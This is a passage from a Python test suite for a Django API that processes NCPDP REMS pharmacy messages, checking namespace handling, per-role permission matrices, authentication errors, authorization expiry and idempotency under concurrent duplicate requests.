        HTTP_ACCEPT="application/json",
    )
    assert response.status_code == 200
    assert answer(response).find("Body/REMSResponse") is not None


def test_message_without_namespace_is_read(patient, prescriber, facility, pharmacy):
    body = _request(pharmacy, patient, prescriber, facility).replace(
        b' xmlns="http://www.ncpdp.org/schema/SCRIPT"', b""
    )
    assert b"xmlns" not in body
    response = send(pharmacy, body)
    assert text(answer(response), "Body/REMSResponse/Response/ResponseStatus/Approved/REMSCaseID")


# --- Who may send what -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona_name", "status", "codes"),
    [
        ("pharmacy", 200, None),
        ("facility", 200, None),
        ("prescriber", 403, ("601", "permission_denied")),
        ("delegate", 403, ("601", "permission_denied")),
        ("admin", 403, ("601", "permission_denied")),
        ("anon", 401, ("601", "not_authenticated")),
    ],
)
def test_initiation_permission_matrix(request, clock, prescriber, persona_name, status, codes):
    authorized_patient(prescriber, first_name="Pat")
    persona = request.getfixturevalue(persona_name)
    pharmacy = persona.participant if persona_name == "pharmacy" else None
    response = send(persona, initiation_request(pharmacy=pharmacy, prescriber_npi=prescriber.participant.npi))

    assert response.status_code == status
    if codes is None:
        assert answer(response).find("Body/REMSInitiationResponse/Response/ResponseStatus/Open") is not None
    else:
        assert error_of(response) == codes
    if status == 401:
        assert response["WWW-Authenticate"].startswith("Bearer")


@pytest.mark.parametrize(
    ("persona_name", "status", "codes"),
    [
        ("pharmacy", 200, None),
        ("facility", 403, ("601", "transaction_not_allowed")),
        ("prescriber", 403, ("601", "permission_denied")),
        ("delegate", 403, ("601", "permission_denied")),
        ("admin", 403, ("601", "permission_denied")),
        ("anon", 401, ("601", "not_authenticated")),
    ],
)
def test_rems_request_permission_matrix(
    request, patient, prescriber, facility, pharmacy, persona_name, status, codes
):
    persona = request.getfixturevalue(persona_name)
    response = send(persona, _request(pharmacy, patient, prescriber, facility))

    assert response.status_code == status
    if codes is None:
        assert answer(response).find("Body/REMSResponse/Response/ResponseStatus/Approved") is not None
        assert dispense_decisions().count() == 1
    else:
        assert error_of(response) == codes
        _nothing_stored()


def test_bad_key_is_an_ncpdp_error(pharmacy):
    pharmacy.client.credentials(HTTP_AUTHORIZATION="Bearer not-a-key")
    response = send(pharmacy, envelope("<REMSRequest/>"))

    assert response.status_code == 401
    assert error_of(response) == ("601", "authentication_failed")


def test_get_is_method_not_allowed(pharmacy):
    response = pharmacy.client.get("/api/ncpdp/rems")

    assert response.status_code == 405
    assert error_of(response) == ("900", "method_not_allowed")


def test_answer_expiry_follows_the_validity_setting(settings, patient, prescriber, facility, pharmacy):
    """GATE-2: the AuthorizationPeriod is the authorization's own (7 days by default, a setting)."""
    settings.REMS_SETTINGS = {**settings.REMS_SETTINGS, "authorization_validity_days": "3"}
    root = answer(send(pharmacy, _request(pharmacy, patient, prescriber, facility)))

    expiration = text(
        root, "Body/REMSResponse/Response/ResponseStatus/Approved/AuthorizationPeriod/ExpirationDate/DateTime"
    )
    assert expiration == (NOW + dt.timedelta(days=3)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert DispenseAuthorization.objects.get().expires_at == NOW + dt.timedelta(days=3)


@pytest.mark.django_db(transaction=True)
def test_two_copies_sent_at_once_run_the_gate_once(prescriber, facility, pharmacy):
    """Idempotency by message under concurrency: two copies of one message on two database connections
    queue on the (sender, MessageID) index; the gate runs once and both get the same answer."""
    today = timezone.now().date()
    patient = authorized_patient(prescriber, on=today)
    plan_course(prescriber, patient, start=today)
    body = _request(pharmacy, patient, prescriber, facility, message_id="RX-RACE")

    barrier = threading.Barrier(2, timeout=30)
    results: list[tuple[int, bytes, str]] = []
    errors: list[BaseException] = []
    lock = threading.Lock()

    def deliver() -> None:
        client = client_with_key(pharmacy.key)
        try:
            barrier.wait()
            response = client.post("/api/ncpdp/rems", data=body, content_type="application/xml")
            with lock:
                results.append(
                    (response.status_code, response.content, response.get("Idempotent-Replayed", ""))
                )
        except BaseException as exc:  # reported below: a thread must not swallow a failure
            with lock:
                errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=deliver) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)

    assert errors == []
    assert [status for status, _, _ in results] == [200, 200]
    assert results[0][1] == results[1][1]
    assert sorted(replayed for _, _, replayed in results) == ["", "true"]
    assert dispense_decisions().count() == 1
    assert DispenseAuthorization.objects.count() == 1
    assert NcpdpMessage.objects.count() == 1


def test_schema_examples_carry_the_current_public_texts():
    """The OpenAPI examples (registry/api/views/standards_examples.py, shown in docs/standards.md) are
    well-formed NCPDP messages whose notes are today's public texts."""
    from registry.api.views import standards_examples as examples

    notes = []
    for example in (examples.NCPDP_DENIED, examples.NCPDP_INITIATION_OPEN, examples.NCPDP_INITIATION_CLOSED):
        root = SafeET.fromstring(example.encode())
        notes += [e.text or "" for e in root.iter() if e.tag.endswith("REMSNote")]
    pairs = [m for note in notes for m in re.findall(r"([a-z_]+): (.+?\.)(?= [a-z_]+: |$)", note)]
    assert {code for code, _ in pairs} == {"facility_not_certified", "no_open_course", "patient_not_found"}
    for code, detail in pairs:
        assert detail == PUBLIC_DETAIL[code], code
